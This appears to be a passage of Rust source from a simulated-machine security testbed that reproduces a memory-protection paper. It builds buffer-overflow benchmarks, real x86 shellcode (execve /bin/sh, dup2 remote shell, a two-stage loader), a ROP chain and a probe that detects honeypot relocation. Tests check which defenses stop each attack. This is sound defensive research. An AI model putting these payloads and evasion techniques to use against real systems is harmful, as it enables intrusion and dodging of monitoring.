    Bss,
    /// Initialised data.
    Data,
}

impl InjectLocation {
    /// All locations, table order (paper order: data, bss, heap, stack).
    pub const ALL: [InjectLocation; 4] = [
        InjectLocation::Data,
        InjectLocation::Bss,
        InjectLocation::Heap,
        InjectLocation::Stack,
    ];

    /// Table label.
    pub fn name(&self) -> &'static str {
        match self {
            InjectLocation::Stack => "stack",
            InjectLocation::Heap => "heap",
            InjectLocation::Bss => "bss",
            InjectLocation::Data => "data",
        }
    }
}

/// One benchmark cell.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Case {
    /// Hijack technique.
    pub technique: Technique,
    /// Injection segment.
    pub location: InjectLocation,
}

impl Case {
    /// Whether the benchmark implements this combination. Four cells are
    /// N/A: the frame-pointer pivot needs its fake frame reachable through
    /// the overflowed *stack* buffer, and the longjmp-parameter variant's
    /// buffer layout cannot reach a `jmp_buf` from the initialised-data
    /// segment (mirroring the paper's four non-executing cases).
    pub fn applicable(&self) -> bool {
        match (self.technique, self.location) {
            (Technique::OldBasePointer, loc) => loc == InjectLocation::Stack,
            (Technique::LongjmpParameter, InjectLocation::Data) => false,
            _ => true,
        }
    }
}

/// Every cell of the matrix (24; 20 applicable).
pub fn all_cases() -> Vec<Case> {
    let mut out = Vec::new();
    for technique in Technique::ALL {
        for location in InjectLocation::ALL {
            out.push(Case {
                technique,
                location,
            });
        }
    }
    out
}

fn inject_snippet(location: InjectLocation) -> (&'static str, &'static str) {
    // (code placing the buffer address in EDI, extra data declarations)
    match location {
        InjectLocation::Stack => ("lea edi, [ebp-96]", ""),
        InjectLocation::Heap => ("mov eax, 96\n call malloc\n mov edi, eax", ""),
        InjectLocation::Bss => ("mov edi, bss_buf", "bss_buf: .space 96"),
        InjectLocation::Data => ("mov edi, data_buf", "data_buf: .byte 0x55\n .space 95"),
    }
}

/// Build the guest program for a case (`None` for N/A cells).
pub fn build_case(case: Case) -> Option<BuiltProgram> {
    if !case.applicable() {
        return None;
    }
    let payload = shellcode::exit_code(MARKER);
    let len = payload.len();
    let (inject, extra_data) = inject_snippet(case.location);
    let copy_payload = format!(
        "{inject}
         mov esi, payload
         mov ecx, {len}
         call memcpy"
    );
    let body = match case.technique {
        Technique::ReturnAddress => format!(
            "{copy_payload}
             ; overflow reaches the saved return address (leak-guided)
             mov [ebp+4], edi"
        ),
        Technique::OldBasePointer => format!(
            "lea edi, [ebp-96]
             ; fake frame at the buffer: saved-ebp, then return address
             ; pointing just past it, then the payload
             mov dword [edi], 0x41414141
             lea eax, [edi+8]
             mov [edi+4], eax
             push edi
             lea edi, [edi+8]
             mov esi, payload
             mov ecx, {len}
             call memcpy
             pop edi
             ; overflow reaches the saved frame pointer
             mov [ebp], edi"
        ),
        Technique::FuncPtrVariable => format!(
            "{copy_payload}
             mov dword [edi+64], harmless
             ; overflow reaches the adjacent function pointer
             mov [edi+64], edi
             call [edi+64]"
        ),
        Technique::FuncPtrParameter => format!(
            "{copy_payload}
             ; overflow reaches the pointer parameter at [ebp+8]
             mov [ebp+8], edi
             call [ebp+8]"
        ),
        Technique::LongjmpVariable => format!(
            "{copy_payload}
             lea eax, [edi+64]
             call setjmp
             cmp eax, 0
             jne lj_came_back
             ; overflow reaches the jmp_buf's saved eip
             mov [edi+84], edi
             lea eax, [edi+64]
             mov edx, 1
             call longjmp
             lj_came_back:
             mov ebx, 1
             call exit"
        ),
        Technique::LongjmpParameter => format!(
            "{copy_payload}
             lea eax, [ebp-32]
             call setjmp
             cmp eax, 0
             jne lj_came_back
             mov [ebp-12], edi
             lea eax, [ebp-32]
             mov edx, 1
             call longjmp
             lj_came_back:
             mov ebx, 1
             call exit"
        ),
    };
    let name = format!(
        "/bin/wilander-{}-{}",
        case.technique.name().replace([' ', '(', ')'], ""),
        case.location.name()
    );
    let prog = ProgramBuilder::new(name)
        .code(&format!(
            "_start:
                push ebp
                mov ebp, esp
                call outer
                mov ebx, 1
                call exit
            outer:
                push ebp
                mov ebp, esp
                push harmless        ; pointer parameter for the param cases
                call victim
                add esp, 4
                leave
                ret
            victim:
                push ebp
                mov ebp, esp
                sub esp, 96
                {body}
                leave
                ret
            harmless:
                ret"
        ))
        .data(&format!(
            "payload: {}\n{}",
            as_byte_directive(&payload),
            extra_data
        ))
        .build()
        .expect("wilander case assembles");
    Some(prog)
}

/// Run one cell under a protection configuration. `None` for N/A cells.
pub fn run_case(case: Case, protection: &Protection) -> Option<AttackOutcome> {
    run_case_on(case, protection, sm_machine::TlbPreset::default())
}

/// [`run_case`] on an explicit TLB geometry. The protection verdict must
/// not depend on TLB shape — set conflicts change *when* the split check
/// runs, never *whether* it runs before a fetch from an unblessed page.
pub fn run_case_on(
    case: Case,
    protection: &Protection,
    tlb: sm_machine::TlbPreset,
) -> Option<AttackOutcome> {
    let prog = build_case(case)?;
    let mut k = kernel_with_on(
        protection,
        tlb,
        KernelConfig {
            aslr_stack: false, // the benchmark assumes known addresses
            ..KernelConfig::default()
        },
    );
    let pid = k.spawn(&prog.image).expect("spawn");
    k.run(80_000_000);
    Some(classify_marker(&k, pid, MARKER))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::events::ResponseMode;

    #[test]
    fn matrix_has_24_cells_4_na() {
        let cases = all_cases();
        assert_eq!(cases.len(), 24);
        assert_eq!(cases.iter().filter(|c| !c.applicable()).count(), 4);
    }

    #[test]
    fn every_applicable_case_succeeds_unprotected() {
        for case in all_cases() {
            let Some(outcome) = run_case(case, &Protection::Unprotected) else {
                continue;
            };
            assert!(
                outcome.succeeded(),
                "{:?}/{:?} failed on the unprotected system: {outcome:?}",
                case.technique,
                case.location
            );
        }
    }

    #[test]
    fn every_applicable_case_is_foiled_by_split_memory() {
        for case in all_cases() {
            let Some(outcome) = run_case(case, &Protection::SplitMem(ResponseMode::Break)) else {
                continue;
            };
            assert_eq!(
                outcome,
                AttackOutcome::Foiled { detected: true },
                "{:?}/{:?} not foiled",
                case.technique,
                case.location
            );
        }
    }
}
