//! Shellcode payloads.
//!
//! All payloads are position-independent machine code for the simulated
//! CPU. Because the ISA's encodings match real IA-32 one-byte opcodes, the
//! payloads read exactly like their historical counterparts — the paper's
//! forensic `exit(0)` shellcode is reproduced byte-for-byte.

use sm_asm::assemble;

/// The paper's §6.1.3 forensic shellcode, verbatim:
/// `mov ebx, 0; mov eax, 1; int 0x80` — `exit(0)`.
pub const PAPER_EXIT0: &[u8] = b"\xbb\x00\x00\x00\x00\xb8\x01\x00\x00\x00\xcd\x80";

fn build(src: &str) -> Vec<u8> {
    assemble(src, 0)
        .unwrap_or_else(|e| panic!("shellcode failed to assemble: {e}"))
        .bytes
}

/// `exit(code)` payload — handy as a success marker in benchmarks
/// (an exit status of `code` proves the injected code ran).
pub fn exit_code(code: u8) -> Vec<u8> {
    build(&format!(
        "mov ebx, {code}
         mov eax, 1
         int 0x80"
    ))
}

/// NUL-free `exit(code)` payload, for injection through `strcpy`-style
/// copies that stop at the first zero byte (the classic shellcode
/// constraint).
///
/// # Panics
///
/// Panics if `code` is 0 (the encoding uses the byte directly).
pub fn exit_code_nul_free(code: u8) -> Vec<u8> {
    assert_ne!(code, 0, "zero exit code cannot be encoded NUL-free here");
    let sc = build(&format!(
        "xor ebx, ebx
         mov bl, {code}
         xor eax, eax
         inc eax
         int 0x80"
    ));
    assert!(!sc.contains(&0u8), "encoding regression: {sc:02x?}");
    sc
}

/// Classic `execve(\"/bin/sh\")` payload: pushes the path onto the stack
/// and invokes the syscall (the canonical x86 shape).
pub fn spawn_shell() -> Vec<u8> {
    build(
        "xor eax, eax
         push eax
         push 0x0068732f      ; \"/sh\\0\"
         push 0x6e69622f      ; \"/bin\"
         mov ebx, esp
         mov eax, 11          ; SYS_EXECVE
         int 0x80
         mov ebx, 1           ; execve failed
         mov eax, 1
         int 0x80",
    )
}

/// Remote-shell payload: `dup2(fd, 0); dup2(fd, 1); execve("/bin/sh")`.
/// `fd` is the attacker's socket in the victim (real exploits hardcode it
/// the same way).
pub fn shell_on_fd(fd: u32) -> Vec<u8> {
    build(&format!(
        "mov ebx, {fd}
         mov ecx, 0
         mov eax, 63          ; SYS_DUP2
         int 0x80
         mov ebx, {fd}
         mov ecx, 1
         mov eax, 63
         int 0x80
         xor eax, eax
         push eax
         push 0x0068732f
         push 0x6e69622f
         mov ebx, esp
         mov eax, 11
         int 0x80
         mov ebx, 1
         mov eax, 1
         int 0x80"
    ))
}

/// Marker the two-stage payload writes back before requesting stage two
/// (`"OWND"`, the 7350wurm-style success signal).
pub const STAGE1_MARKER: &[u8; 4] = b"OWND";

/// Offset within the stage-one page where stage two is read to.
pub const STAGE2_PAGE_OFFSET: u32 = 0x800;

/// Two-stage payload (the WU-FTPD/7350wurm shape from paper §6.1.2/§6.1.3):
/// stage one signals the attacker with [`STAGE1_MARKER`] over `fd`, then
/// reads stage two from the socket **onto its own memory page** (offset
/// [`STAGE2_PAGE_OFFSET`]) and jumps to it. Reading onto the same page is
/// what makes the paper's observe-mode note true: "our system can
/// successfully observe the execution of the initial stage of code, but
/// does not intercede before the second stage because the memory page has
/// been locked."
pub fn two_stage_stage1(fd: u32) -> Vec<u8> {
    build(&format!(
        "; push \"OWND\" and send it
         push 0x444e574f
         mov ecx, esp
         mov edx, 4
         mov ebx, {fd}
         mov eax, 4           ; SYS_WRITE
         int 0x80
         pop eax
         ; locate our own page (call/pop PC-discovery)
         call getpc
         getpc: pop eax
         and eax, 0xfffff000
         add eax, {off}
         mov esi, eax         ; stage-two landing zone
         ; read(fd, landing, 256)
         mov ecx, esi
         mov edx, 256
         mov ebx, {fd}
         mov eax, 3           ; SYS_READ
         int 0x80
         jmp esi",
        off = STAGE2_PAGE_OFFSET
    ))
}

/// A NOP sled of `n` bytes (authentic 0x90s, so forensic dumps look like
/// the paper's Fig. 5c).
pub fn nop_sled(n: usize) -> Vec<u8> {
    vec![0x90; n]
}

/// Render payload bytes as an `.byte` directive for embedding in guest
/// program sources.
pub fn as_byte_directive(bytes: &[u8]) -> String {
    let list: Vec<String> = bytes.iter().map(|b| format!("{b:#04x}")).collect();
    format!(".byte {}", list.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_machine::isa::{decode_slice, Decoded, Insn};

    #[test]
    fn paper_exit0_matches_generated() {
        // Our assembler must reproduce the paper's bytes exactly.
        let generated = build(
            "mov ebx, 0
             mov eax, 1
             int 0x80",
        );
        assert_eq!(generated, PAPER_EXIT0);
    }

    #[test]
    fn exit_code_encodes_status() {
        let sc = exit_code(42);
        match decode_slice(&sc).unwrap() {
            Decoded::Insn { insn, .. } => {
                assert_eq!(insn, Insn::MovRegImm(sm_machine::cpu::Reg::Ebx, 42));
            }
            d => panic!("{d:?}"),
        }
    }

    #[test]
    fn spawn_shell_contains_bin_sh() {
        let sc = spawn_shell();
        // "/bin" and "//sh" little-endian immediates are present.
        let s: Vec<u8> = sc.clone();
        assert!(s.windows(4).any(|w| w == b"/bin"), "{sc:02x?}");
        assert!(s.windows(4).any(|w| w == b"/sh\x00"));
    }

    #[test]
    fn payloads_are_position_independent() {
        // No absolute addresses: every payload decodes identically and
        // contains no references to link-time symbols (assembled at 0).
        for sc in [
            exit_code(7),
            spawn_shell(),
            shell_on_fd(3),
            two_stage_stage1(4),
        ] {
            let mut pos = 0;
            while pos < sc.len() {
                match decode_slice(&sc[pos..]) {
                    Ok(Decoded::Insn { len, .. }) => pos += len as usize,
                    other => panic!("undecodable payload at {pos}: {other:?}"),
                }
            }
        }
    }

    #[test]
    fn stage1_fits_the_scenario_buffers() {
        // The WU-FTPD scenario's overflow buffer is 96 bytes.
        assert!(
            two_stage_stage1(3).len() <= 96,
            "stage1 too large: {}",
            two_stage_stage1(3).len()
        );
    }

    #[test]
    fn byte_directive_roundtrip() {
        let d = as_byte_directive(&[0x90, 0x00, 0xFF]);
        assert_eq!(d, ".byte 0x90, 0x00, 0xff");
        let out = sm_asm::assemble(&d, 0).unwrap();
        assert_eq!(out.bytes, vec![0x90, 0x00, 0xFF]);
    }
}
