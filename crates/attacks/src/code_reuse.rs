//! Code-reuse attack gallery: return-to-libc, ROP chains, and the DCR
//! code-page-read fingerprint.
//!
//! The paper is explicit that split memory stops code *injection* — §7
//! concedes that "attacks that do not involve the injection of code, such
//! as return-to-libc attacks, are not prevented by our technique". This
//! module makes that boundary executable: three attacks that subvert a
//! victim **without injecting a single byte of code**, so neither split
//! memory nor execute-disable has anything to catch.
//!
//! | attack | hijack | payload |
//! |---|---|---|
//! | [`ReuseAttack::Ret2Libc`] | stack overflow → return address | one legitimate function (the victim's `lib_system` remote-admin helper) |
//! | [`ReuseAttack::RopChain`] | stack overflow → return address | multi-gadget chain: `pop reg; ret` ×5 + `int 0x80; ret`, driving `dup2`/`dup2`/`execve` |
//! | [`ReuseAttack::DcrFingerprint`] | stack overflow → return address | injected probe that *fingerprints the defense's response mode* |
//!
//! The first two are the classic post-NX exploitation ladder (Solar
//! Designer's 1997 return-into-libc; Shacham's 2007 gadget chains): the
//! attacker reuses the victim's own code, so every fetched byte comes from
//! a legitimate code page. They succeed under split memory and NX alone —
//! a pinned *negative* result — and are caught by the shadow-stack/CFI
//! engine ([`sm_core::shadow`]), which checks where control *flows* rather
//! than where code *lives*.
//!
//! The third is different in kind: it ports the fingerprint from the DCR
//! line of work (code-page *reads* unmask decoy-based responses) to this
//! testbed's observe/honeypot modes. The probe discovers its own PC with
//! the classic `call/pop` idiom and compares it against the address the
//! payload was injected at. Execute-disable's observe mode *relocates* the
//! payload to a decoy mapping ([`sm_core::nx::NxEngine`]), so the PC moves
//! and the probe reports `HPOT` and walks away. Split memory's observe
//! mode heals the page *in place* — the PC matches, the probe reports
//! `CLEN`, and the attacker proceeds, none the wiser that every step was
//! logged. The data-frame view genuinely changes the outcome.
//!
//! As throughout the corpus, the attacker "knows the binary": code
//! segments are loaded without ASLR (as on the paper's RedHat 7.2
//! testbed), so gadget and library-function addresses come straight from
//! the attacker's own copy ([`BuiltProgram::sym`]); only the stack buffer
//! address needs the info leak.

use crate::harness::{
    classify_shell, ext_recv_wait, ext_send, external_connect_patiently, kernel_with_on,
    AttackOutcome, Protection,
};
use sm_kernel::kernel::{Kernel, KernelConfig};
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::TlbPreset;

/// The code-reuse attacks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ReuseAttack {
    /// Return-to-libc: overwrite the return address with the victim's own
    /// `lib_system` helper. No injected bytes at all — the overflow
    /// payload is pure filler plus one code address.
    Ret2Libc,
    /// Multi-gadget ROP chain: `pop ebx/ecx/eax; ret` loaders and an
    /// `int 0x80; ret` kernel gate, strung together on the stack to call
    /// `dup2(conn, 0); dup2(conn, 1); execve("/bin/sh")`.
    RopChain,
    /// DCR-style response-mode fingerprint: injected probe that detects
    /// honeypot relocation by comparing its discovered PC with the
    /// injection address.
    DcrFingerprint,
}

impl ReuseAttack {
    /// All attacks, gallery order.
    pub const ALL: [ReuseAttack; 3] = [
        ReuseAttack::Ret2Libc,
        ReuseAttack::RopChain,
        ReuseAttack::DcrFingerprint,
    ];

    /// Short label for tables.
    pub fn name(&self) -> &'static str {
        match self {
            ReuseAttack::Ret2Libc => "ret2libc",
            ReuseAttack::RopChain => "rop-chain",
            ReuseAttack::DcrFingerprint => "dcr-fingerprint",
        }
    }

    /// Port the victim server listens on.
    pub fn port(&self) -> u16 {
        match self {
            ReuseAttack::Ret2Libc | ReuseAttack::RopChain => 8080,
            ReuseAttack::DcrFingerprint => 79,
        }
    }
}

/// Result of one code-reuse attack run.
#[derive(Debug, Clone)]
pub struct ReuseReport {
    /// Which attack.
    pub attack: ReuseAttack,
    /// Classified outcome.
    pub outcome: AttackOutcome,
    /// Detections logged by the protection.
    pub detections: usize,
    /// For the fingerprint probe: the 4-byte verdict it sent back
    /// (`"CLEN"` or `"HPOT"`), when it ran far enough to send one.
    pub marker: Option<String>,
}

/// Run one code-reuse attack under a protection configuration.
pub fn run_reuse(attack: ReuseAttack, protection: &Protection) -> ReuseReport {
    run_reuse_on(attack, protection, TlbPreset::default())
}

/// [`run_reuse`] on an explicit TLB geometry.
pub fn run_reuse_on(attack: ReuseAttack, protection: &Protection, tlb: TlbPreset) -> ReuseReport {
    match attack {
        ReuseAttack::Ret2Libc => run_ret2libc(protection, tlb),
        ReuseAttack::RopChain => run_rop_chain(protection, tlb),
        ReuseAttack::DcrFingerprint => run_fingerprint(protection, tlb),
    }
}

// ---------------------------------------------------------------------------
// shared plumbing

const BUDGET: u64 = 4_000_000;

fn spawn_victim(protection: &Protection, tlb: TlbPreset, prog: &BuiltProgram) -> Kernel {
    let mut k = kernel_with_on(protection, tlb, KernelConfig::default());
    k.spawn(&prog.image).expect("victim spawns");
    k
}

/// Parse the `nth` decimal number out of a banner (same leak format the
/// Table 2 servers use).
fn parse_leak(banner: &str, nth: usize) -> Option<u32> {
    banner
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .filter_map(|s| s.parse().ok())
        .nth(nth)
}

fn finish(attack: ReuseAttack, mut k: Kernel, marker: Option<String>) -> ReuseReport {
    k.run(BUDGET);
    ReuseReport {
        attack,
        outcome: classify_shell(&k),
        detections: crate::harness::detections(&k),
        marker,
    }
}

// ---------------------------------------------------------------------------
// victim 1: "libd", a remote-admin daemon with a reusable code surface

/// Build the ret2libc/ROP victim: a daemon whose *legitimate* code base
/// contains everything a code-reuse attacker needs — a remote-admin
/// `lib_system` helper (the stand-in for libc's `system()`), register-pop
/// epilogue gadgets, a syscall gate, and a `"/bin/sh"` string. The request
/// handler has the classic unchecked-length stack overflow.
pub fn libd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/libd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 8080
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 8080
                int 0x80
                mov [sockfd], eax
                ; headroom above the handler frame, as a real daemon's call
                ; depth would provide (the ROP chain lands there)
                sub esp, 160
                call handle_req
                mov ebx, 0
                call exit
            handle_req:
                push ebp
                mov ebp, esp
                sub esp, 128
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-128]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; request: length line, then bytes into the stack buffer.
                ; THE BUG: the length is unchecked.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-128]
                int 0x80
                leave
                ret
            ; --- legitimate code the attacker reuses ---
            ; remote-admin helper: attach the connection to stdio and hand
            ; over a shell (the daemon's own 'site exec' feature — and the
            ; ret2libc target, like libc's system()).
            lib_system:
                mov ebx, [sockfd]
                mov ecx, 0
                mov eax, SYS_DUP2
                int 0x80
                mov ebx, [sockfd]
                mov ecx, 1
                mov eax, SYS_DUP2
                int 0x80
                mov ebx, binsh
                mov eax, SYS_EXECVE
                int 0x80
                mov ebx, 1
                call exit
            ; epilogue fragments any real binary is full of — the ROP
            ; attacker's gadget dictionary.
            g_pop_ebx:
                pop ebx
                ret
            g_pop_ecx:
                pop ecx
                ret
            g_pop_eax:
                pop eax
                ret
            g_int80:
                int 0x80
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"LIBD buf \"
             nl: .asciz \"\\n\"
             binsh: .asciz \"/bin/sh\"",
        )
        .build()
        .expect("libd server assembles")
}

fn libd_connect(protection: &Protection, tlb: TlbPreset) -> (Kernel, crate::harness::ExternalConn) {
    libd_connect_with(protection, tlb, KernelConfig::default())
}

fn libd_connect_with(
    protection: &Protection,
    tlb: TlbPreset,
    kconfig: KernelConfig,
) -> (Kernel, crate::harness::ExternalConn) {
    let prog = libd_server();
    let mut k = kernel_with_on(protection, tlb, kconfig);
    k.spawn(&prog.image).expect("victim spawns");
    let conn = external_connect_patiently(&mut k, 8080, BUDGET).expect("libd listening");
    // Drain the banner (the buffer leak is unused by ret2libc/ROP — the
    // chain is built purely from code addresses).
    let _ = ext_recv_wait(&mut k, &conn, BUDGET);
    (k, conn)
}

fn send_overflow(k: &mut Kernel, conn: &crate::harness::ExternalConn, payload: &[u8]) {
    ext_send(k, conn, format!("{}\n", payload.len()).as_bytes());
    k.run(BUDGET);
    ext_send(k, conn, payload);
}

fn run_ret2libc(protection: &Protection, tlb: TlbPreset) -> ReuseReport {
    let prog = libd_server();
    let (mut k, conn) = libd_connect(protection, tlb);
    // 128 bytes of pure filler (no code!), junk saved-ebp, and the
    // address of the victim's own lib_system over the return address.
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&prog.sym("lib_system").to_le_bytes());
    send_overflow(&mut k, &conn, &payload);
    finish(ReuseAttack::Ret2Libc, k, None)
}

/// The ROP chain: `dup2(conn, 0); dup2(conn, 1); execve("/bin/sh")`
/// spelled entirely in return addresses and immediates. `conn` is the
/// victim-side connection fd (3, as in [`crate::shellcode::shell_on_fd`]).
fn rop_chain(prog: &BuiltProgram) -> Vec<u8> {
    let pop_ebx = prog.sym("g_pop_ebx");
    let pop_ecx = prog.sym("g_pop_ecx");
    let pop_eax = prog.sym("g_pop_eax");
    let int80 = prog.sym("g_int80");
    let words: [u32; 17] = [
        pop_ebx,
        3, // oldfd: the accepted connection
        pop_ecx,
        0, // newfd: stdin
        pop_eax,
        sm_kernel::syscall::SYS_DUP2,
        int80,
        pop_ecx,
        1, // newfd: stdout (ebx survives the syscall)
        pop_eax,
        sm_kernel::syscall::SYS_DUP2,
        int80,
        pop_ebx,
        prog.sym("binsh"),
        pop_eax,
        sm_kernel::syscall::SYS_EXECVE,
        int80,
    ];
    words.iter().flat_map(|w| w.to_le_bytes()).collect()
}

fn run_rop_chain(protection: &Protection, tlb: TlbPreset) -> ReuseReport {
    let prog = libd_server();
    let (mut k, conn) = libd_connect(protection, tlb);
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes()); // saved ebp
    payload.extend_from_slice(&rop_chain(&prog));
    send_overflow(&mut k, &conn, &payload);
    finish(ReuseAttack::RopChain, k, None)
}

/// The ROP chain with the trace ring enabled: returns the report plus the
/// serialized trace JSONL, so tests can pin a golden detection trace for a
/// hijack the paper's engines cannot see.
pub fn run_rop_traced(protection: &Protection, trace: u32) -> (ReuseReport, String) {
    let prog = libd_server();
    let kconfig = KernelConfig {
        aslr_stack: false,
        trace,
        ..KernelConfig::default()
    };
    let (mut k, conn) = libd_connect_with(protection, TlbPreset::default(), kconfig);
    let mut payload = vec![b'A'; 128];
    payload.extend_from_slice(&0x41414141u32.to_le_bytes()); // saved ebp
    payload.extend_from_slice(&rop_chain(&prog));
    send_overflow(&mut k, &conn, &payload);
    k.run(BUDGET);
    let report = ReuseReport {
        attack: ReuseAttack::RopChain,
        outcome: classify_shell(&k),
        detections: crate::harness::detections(&k),
        marker: None,
    };
    let jsonl = k.sys.machine.tracer.to_jsonl();
    (report, jsonl)
}

// ---------------------------------------------------------------------------
// victim 2: "fingerd", the response-mode fingerprint target

/// Build the fingerprint victim: the same bind-style unchecked-length
/// stack overflow with a buffer-address leak, sized so the probe payload
/// fits inside the buffer.
pub fn fingerd_server() -> BuiltProgram {
    ProgramBuilder::new("/bin/fingerd")
        .code(
            "_start:
                mov eax, SYS_LISTEN
                mov ebx, 79
                int 0x80
                mov eax, SYS_ACCEPT
                mov ebx, 79
                int 0x80
                mov [sockfd], eax
                call handle_req
                mov ebx, 0
                call exit
            handle_req:
                push ebp
                mov ebp, esp
                sub esp, 192
                mov ebx, [sockfd]
                mov esi, banner
                call fdputs
                mov ebx, [sockfd]
                lea eax, [ebp-192]
                call fdput_num
                mov ebx, [sockfd]
                mov esi, nl
                call fdputs
                ; THE BUG: unchecked length into the stack buffer.
                mov ebx, [sockfd]
                mov edi, linebuf
                mov edx, 16
                call read_line
                mov esi, linebuf
                call atoi
                mov edx, eax
                mov eax, SYS_READ
                mov ebx, [sockfd]
                lea ecx, [ebp-192]
                int 0x80
                leave
                ret",
        )
        .data(
            "sockfd: .word 0
             linebuf: .space 32
             banner: .asciz \"FINGERD buf \"
             nl: .asciz \"\\n\"",
        )
        .build()
        .expect("fingerd server assembles")
}

/// Probe verdict: the payload is running at the address it was injected
/// at — the response (if any) left it in place.
pub const MARKER_CLEAN: &[u8; 4] = b"CLEN";
/// Probe verdict: the payload's PC moved — it is running in a decoy
/// (honeypot) mapping, so the attacker aborts without showing their hand.
pub const MARKER_HONEYPOT: &[u8; 4] = b"HPOT";

/// The fingerprint probe: discover our own PC (`call/pop`, the same idiom
/// staged payloads use anyway), compare its page against the page we were
/// injected at, report the verdict over the socket, and only proceed to a
/// shell when the ground is clean.
pub fn fingerprint_probe(expected_page: u32, fd: u32) -> Vec<u8> {
    let probe = format!(
        "call getpc
         getpc: pop esi
         and esi, 0xfffff000
         mov edi, {expected_page}
         cmp esi, edi
         jne decoy
         ; clean: report, then proceed to the real payload
         push 0x4e454c43      ; \"CLEN\"
         mov ecx, esp
         mov edx, 4
         mov ebx, {fd}
         mov eax, 4           ; SYS_WRITE
         int 0x80
         pop eax
         mov ebx, {fd}
         mov ecx, 0
         mov eax, 63          ; SYS_DUP2
         int 0x80
         mov ebx, {fd}
         mov ecx, 1
         mov eax, 63
         int 0x80
         xor eax, eax
         push eax
         push 0x0068732f
         push 0x6e69622f
         mov ebx, esp
         mov eax, 11          ; SYS_EXECVE
         int 0x80
         mov ebx, 1
         mov eax, 1
         int 0x80
         decoy:
         ; honeypot detected: report and exit quietly — a careful attacker
         ; never runs the real payload under observation
         push 0x544f5048      ; \"HPOT\"
         mov ecx, esp
         mov edx, 4
         mov ebx, {fd}
         mov eax, 4
         int 0x80
         mov ebx, 2
         mov eax, 1           ; SYS_EXIT
         int 0x80"
    );
    sm_asm::assemble(&probe, 0)
        .unwrap_or_else(|e| panic!("fingerprint probe failed to assemble: {e}"))
        .bytes
}

fn run_fingerprint(protection: &Protection, tlb: TlbPreset) -> ReuseReport {
    let prog = fingerd_server();
    let mut k = spawn_victim(protection, tlb, &prog);
    let conn = external_connect_patiently(&mut k, 79, BUDGET).expect("fingerd listening");
    let banner = String::from_utf8_lossy(&ext_recv_wait(&mut k, &conn, BUDGET)).into_owned();
    let bufaddr = parse_leak(&banner, 0).expect("buffer leak in banner");
    // The probe's call/pop yields the address *after* the 5-byte call, so
    // the expected page is taken from bufaddr + 5.
    let probe = fingerprint_probe((bufaddr + 5) & 0xffff_f000, 3);
    let mut payload = probe;
    assert!(payload.len() <= 192, "probe too large: {}", payload.len());
    payload.resize(192, 0x90);
    payload.extend_from_slice(&0x41414141u32.to_le_bytes());
    payload.extend_from_slice(&bufaddr.to_le_bytes());
    send_overflow(&mut k, &conn, &payload);
    k.run(BUDGET);
    let verdict = ext_recv_wait(&mut k, &conn, BUDGET);
    let marker = (!verdict.is_empty()).then(|| String::from_utf8_lossy(&verdict[..4]).into_owned());
    finish(ReuseAttack::DcrFingerprint, k, marker)
}

/// A benign client session against the libd server: sends a short,
/// in-bounds request and lets the handler return normally. Used to pin
/// that the shadow-stack engine does not false-positive on legitimate
/// call/ret traffic.
pub fn run_libd_benign(protection: &Protection) -> (Kernel, usize) {
    let (mut k, conn) = libd_connect(protection, TlbPreset::default());
    send_overflow(&mut k, &conn, b"hello");
    k.run(BUDGET);
    let d = crate::harness::detections(&k);
    (k, d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sm_kernel::events::ResponseMode;

    /// The paper's §7 concession, pinned: both code-reuse attacks get
    /// their shell under split memory alone, NX alone, and the combined
    /// engine — no code is injected, so there is nothing for a
    /// code-origin defense to catch (and nothing is even logged).
    #[test]
    fn reuse_attacks_bypass_split_and_nx() {
        for p in [
            Protection::Unprotected,
            Protection::SplitMem(ResponseMode::Break),
            Protection::Nx,
            Protection::Combined(ResponseMode::Break),
        ] {
            for a in [ReuseAttack::Ret2Libc, ReuseAttack::RopChain] {
                let r = run_reuse(a, &p);
                assert_eq!(
                    r.outcome,
                    AttackOutcome::ShellSpawned,
                    "{} should bypass {:?}: {r:?}",
                    a.name(),
                    p
                );
                assert_eq!(r.detections, 0, "{} was seen by {p:?}: {r:?}", a.name());
            }
        }
    }

    /// The shadow-stack engine catches both, standalone and stacked on
    /// the combined engine.
    #[test]
    fn reuse_attacks_detected_by_shadow_stack() {
        for p in [
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Break),
        ] {
            for a in [ReuseAttack::Ret2Libc, ReuseAttack::RopChain] {
                let r = run_reuse(a, &p);
                assert_eq!(
                    r.outcome,
                    AttackOutcome::Foiled { detected: true },
                    "{} should be caught by {:?}: {r:?}",
                    a.name(),
                    p
                );
                assert!(r.detections > 0);
            }
        }
    }

    /// Legitimate traffic through the same server produces no shadow
    /// detections and a clean exit.
    #[test]
    fn benign_session_clean_under_shadow() {
        for p in [
            Protection::ShadowStack(ResponseMode::Break),
            Protection::ShadowCombined(ResponseMode::Break),
        ] {
            let (k, detections) = run_libd_benign(&p);
            assert_eq!(detections, 0, "false positive under {p:?}");
            assert!(
                !k.sys.events.execed(crate::shell::SHELL_PATH),
                "benign session spawned a shell?!"
            );
        }
    }

    /// The DCR fingerprint distinguishes NX's honeypot relocation (the PC
    /// moves → `HPOT`, attacker walks away) from split memory's in-place
    /// healing (`CLEN`, attacker proceeds — and was logged anyway). The
    /// data-frame view is what makes split memory's observe mode
    /// untelegraphed.
    #[test]
    fn fingerprint_unmasks_nx_honeypot_but_not_split_memory() {
